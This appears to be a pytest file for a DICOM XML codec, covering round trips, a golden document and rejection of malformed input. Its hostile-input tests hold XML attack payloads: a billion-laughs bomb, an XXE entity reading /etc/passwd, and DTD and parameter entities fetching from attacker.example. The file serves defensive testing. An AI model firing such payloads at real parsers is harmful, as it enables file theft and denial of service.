"""Native DICOM Model XML codec (PS3.19 §A.1): round trips, a golden document, hostile input."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pydicom
import pydicom.data
import pytest
from pydicom.errors import InvalidDicomError

from dicomweb_kit.codecs.dicom_json import dataset_to_json_dict
from dicomweb_kit.codecs.dicom_xml import json_dict_to_xml, xml_to_json_dict
from dicomweb_kit.errors import InvalidRequest, PayloadTooLarge

DATA_DIR = Path(pydicom.data.__file__).parent
BUNDLED = [
    path
    for folder in ("test_files", "charset_files")
    for path in sorted((DATA_DIR / folder).rglob("*"))
    if path.is_file() and path.suffix in ("", ".dcm") and path.name != "README"
]


def _json_of(path: Path) -> dict[str, Any]:
    try:
        ds = pydicom.dcmread(path)
    except InvalidDicomError:
        if path.suffix != ".dcm":
            pytest.skip(f"{path.name}: not a DICOM file")
        ds = pydicom.dcmread(path, force=True)
    try:
        return dataset_to_json_dict(ds, bulk_data_threshold=1 << 40)
    except ValueError:
        pytest.skip("invalid IS/DS: no JSON form (see dicom_json docstring)")


@pytest.mark.parametrize("path", BUNDLED, ids=[str(p.relative_to(DATA_DIR)) for p in BUNDLED])
def test_round_trip_json_xml_json(path: Path) -> None:
    obj = _json_of(path)
    assert xml_to_json_dict(json_dict_to_xml(obj)) == obj


GOLDEN_JSON: dict[str, Any] = {
    "00080005": {"vr": "CS", "Value": ["ISO_IR 192"]},
    "00080060": {"vr": "CS", "Value": ["CT", None, "MR"]},
    "00081115": {
        "vr": "SQ",
        "Value": [{"0020000E": {"vr": "UI", "Value": ["1.2.3"]}}, {}],
    },
    "00090010": {"vr": "LO", "Value": ["ACME & Co <1>"]},
    "00091001": {"vr": "LT", "Value": ['line1\r\nline2 "q"']},
    "00100010": {
        "vr": "PN",
        "Value": [{"Alphabetic": "Yamada^Tarou", "Ideographic": "山田^太郎"}, None, {"Phonetic": "^^^Dr"}],
    },
    "00100020": {"vr": "LO"},
    "00200013": {"vr": "IS", "Value": [7]},
    "00209165": {"vr": "AT", "Value": ["00100010"]},
    "00280030": {"vr": "DS", "Value": [0.5, 1e-06]},
    "00282000": {"vr": "OB", "InlineBinary": "AQI="},
    "7FE00010": {"vr": "OW", "BulkDataURI": "https://pacs/bulk?a=1&b=2"},
}

GOLDEN_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<NativeDicomModel xmlns="http://dicom.nema.org/PS3.19/models/NativeDICOM" xml:space="preserve">'
    '<DicomAttribute tag="00080005" vr="CS" keyword="SpecificCharacterSet">'
    '<Value number="1">ISO_IR 192</Value></DicomAttribute>'
    '<DicomAttribute tag="00080060" vr="CS" keyword="Modality">'
    '<Value number="1">CT</Value><Value number="2"/><Value number="3">MR</Value></DicomAttribute>'
    '<DicomAttribute tag="00081115" vr="SQ" keyword="ReferencedSeriesSequence">'
    '<Item number="1"><DicomAttribute tag="0020000E" vr="UI" keyword="SeriesInstanceUID">'
    '<Value number="1">1.2.3</Value></DicomAttribute></Item><Item number="2"></Item></DicomAttribute>'
    '<DicomAttribute tag="00090010" vr="LO"><Value number="1">ACME &amp; Co &lt;1&gt;</Value></DicomAttribute>'
    '<DicomAttribute tag="00091001" vr="LT" privateCreator="ACME &amp; Co &lt;1&gt;">'
    '<Value number="1">line1&#13;\nline2 "q"</Value></DicomAttribute>'
    '<DicomAttribute tag="00100010" vr="PN" keyword="PatientName">'
    '<PersonName number="1"><Alphabetic><FamilyName>Yamada</FamilyName><GivenName>Tarou</GivenName></Alphabetic>'
    "<Ideographic><FamilyName>山田</FamilyName><GivenName>太郎</GivenName></Ideographic></PersonName>"
    '<PersonName number="2"/>'
    '<PersonName number="3"><Phonetic><FamilyName/><GivenName/><MiddleName/><NamePrefix>Dr</NamePrefix>'
    "</Phonetic></PersonName></DicomAttribute>"
    '<DicomAttribute tag="00100020" vr="LO" keyword="PatientID"></DicomAttribute>'
    '<DicomAttribute tag="00200013" vr="IS" keyword="InstanceNumber"><Value number="1">7</Value></DicomAttribute>'
    '<DicomAttribute tag="00209165" vr="AT" keyword="DimensionIndexPointer">'
    '<Value number="1">00100010</Value></DicomAttribute>'
    '<DicomAttribute tag="00280030" vr="DS" keyword="PixelSpacing">'
    '<Value number="1">0.5</Value><Value number="2">1e-06</Value></DicomAttribute>'
    '<DicomAttribute tag="00282000" vr="OB" keyword="ICCProfile"><InlineBinary>AQI=</InlineBinary></DicomAttribute>'
    '<DicomAttribute tag="7FE00010" vr="OW" keyword="PixelData">'
    '<BulkData uri="https://pacs/bulk?a=1&amp;b=2"/></DicomAttribute>'
    "</NativeDicomModel>\n"
).encode()


def test_golden_document() -> None:
    assert json_dict_to_xml(GOLDEN_JSON) == GOLDEN_XML
    assert xml_to_json_dict(GOLDEN_XML) == GOLDEN_JSON


def test_pretty_printed_document_without_namespace_and_uuid_bulk_data() -> None:
    doc = b"""<?xml version="1.0"?>
    <NativeDicomModel>
      <DicomAttribute tag="00100020" vr="LO" keyword="PatientID">
        <Value number="2"> b </Value>
        <Value number="1">a</Value>
      </DicomAttribute>
      <DicomAttribute tag="7fe00010" vr="OB"><BulkData uuid="abc"/></DicomAttribute>
    </NativeDicomModel>"""
    assert xml_to_json_dict(doc) == {
        "00100020": {"vr": "LO", "Value": ["a", " b "]},
        "7FE00010": {"vr": "OB", "BulkDataURI": "abc"},
    }


def test_characters_xml_cannot_carry_become_replacement_character() -> None:
    obj = {"00204000": {"vr": "LT", "Value": ["a\x0cb\x00c"]}}
    assert xml_to_json_dict(json_dict_to_xml(obj)) == {"00204000": {"vr": "LT", "Value": ["a\ufffdb\ufffdc"]}}


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"><Value number="1">&lol3;</Value>
</DicomAttribute></NativeDicomModel>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"><Value number="1">&xxe;</Value>
</DicomAttribute></NativeDicomModel>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE NativeDicomModel SYSTEM "http://attacker.example/evil.dtd">
<NativeDicomModel/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<NativeDicomModel/>"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtd_and_entities_rejected(doc: bytes) -> None:
    with pytest.raises(InvalidRequest, match="DOCTYPE"):
        xml_to_json_dict(doc)


@pytest.mark.parametrize(
    "doc",
    [
        b"",
        b"<NativeDicomModel>",
        b"<NativeDicomModel></Other>",
        b"not xml at all",
        b"<NativeDicomModel><DicomAttribute tag='00100020' vr='LO'><Value number='1'>&undefined;</Value>"
        b"</DicomAttribute></NativeDicomModel>",
        b"<Other/>",
        b"<x:NativeDicomModel xmlns:x='urn:other'/>",
        b"<NativeDicomModel><Value number='1'>a</Value></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='0010002' vr='LO'/></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00100020' vr='XX'/></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00100020' vr='LO'><Value number='0'>a</Value>"
        b"</DicomAttribute></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00100020' vr='LO'><Value number='2'>a</Value>"
        b"</DicomAttribute></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00100020' vr='LO'><Value number='1'>a<b/></Value>"
        b"</DicomAttribute></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00280010' vr='US'><Value number='1'>x</Value>"
        b"</DicomAttribute></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00100010' vr='PN'><PersonName number='1'><Foo/>"
        b"</PersonName></DicomAttribute></NativeDicomModel>",
        b"<NativeDicomModel><DicomAttribute tag='00100020' vr='LO'/><DicomAttribute tag='00100020' vr='LO'/>"
        b"</NativeDicomModel>",
    ],
)
def test_malformed_documents_rejected(doc: bytes) -> None:
    with pytest.raises(InvalidRequest):
        xml_to_json_dict(doc)


def test_size_and_depth_bounds() -> None:
    with pytest.raises(PayloadTooLarge):
        xml_to_json_dict(GOLDEN_XML, max_size=100)
    nested = b"<NativeDicomModel>" + b"<DicomAttribute tag='00081115' vr='SQ'><Item number='1'>" * 100
    nested += b"</Item></DicomAttribute>" * 100 + b"</NativeDicomModel>"
    with pytest.raises(InvalidRequest, match="nested"):
        xml_to_json_dict(nested)
